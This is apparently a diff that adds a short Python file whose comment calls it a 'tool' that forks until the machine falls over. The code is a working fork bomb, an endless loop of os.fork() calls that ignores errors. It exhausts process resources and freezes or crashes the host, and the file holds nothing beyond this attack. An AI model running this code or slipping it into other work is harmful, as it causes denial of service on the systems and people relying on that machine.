@@ -1,0 +1,8 @@
+# A "tool" that forks until the machine falls over.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
